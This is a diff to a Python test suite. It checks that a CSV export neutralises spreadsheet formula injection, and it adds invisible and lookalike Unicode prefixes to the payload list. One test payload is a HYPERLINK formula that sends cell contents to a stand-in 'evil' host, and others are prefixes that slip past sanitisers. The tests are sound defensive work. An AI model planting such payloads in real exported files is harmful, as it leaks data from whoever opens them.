@@ -10,10 +10,11 @@ from tests.attacks.invoking import invoke, lines
 
 FORMULAS = [
     '=HYPERLINK("http://evil/"&A1)', "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\x00=1", "\ufeff=1",
-    "\uff1d1", "\uff0b1", "\uff0d1", "\uff201",
+    "\u2060=1", "\u00ad=1", "\u200e=1", "\u202a=1", "\u180e=1", "\u00a0\u2003=1", "\u2028=1", "\u3164=1", "\u034f=1",
+    "\u2212" "1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201",
     "=", "-", "\t", "\r", '="a""b"', "'=1", "x;=1", "x\t=1", "x\n=1", 'x",=1', "x\r=1",
 ]  # fmt: skip
-SIGNS = "=+-@\t\r\n\uff0b\uff0d\uff1d\uff20"
+SIGNS = "=+-@\u2212\t\r\n\uff0b\uff0d\uff1d\uff20"
 
 
 def records(text):
@@ -33,7 +34,8 @@ def test_no_cell_begins_a_formula(text):
     table = exported(records(text))
     rows = list(csv.reader(io.StringIO(table, newline="")))
     assert [len(row) for row in rows] == [6] * 5
-    cells = [cell.strip(" \x00\ufeff") for row in rows for cell in row]
+    unseen = " \x00\ufeff\u2060\u00ad\u200e\u202a\u180e\u00a0\u2003\u2028\u3164\u034f"
+    cells = [cell.strip(unseen) for row in rows for cell in row]
     assert not [cell for cell in cells if cell and cell[0] in SIGNS]
 
 
@@ -45,7 +47,7 @@ def test_answers_come_back_with_the_texts_of_the_records(text, tmp_path):
     (tmp_path / "answers.csv").write_text(table.replace(",,\n", ",a,\n"), newline="")
     labeled = invoke("relabel", "human", "--import", tmp_path / "answers.csv", data=data)
     assert labeled.exit_code == 0
-    rows = [json.loads(line) for line in labeled.stdout.splitlines()]
+    rows = [json.loads(line) for line in labeled.stdout_bytes.splitlines()]
     assert len(rows) == 4
     for row, given in zip(rows, map(json.loads, data.splitlines()), strict=True):
         texts = [turn[0]["content"] if isinstance(turn, list) else turn for turn in (row["chosen"], row["rejected"])]
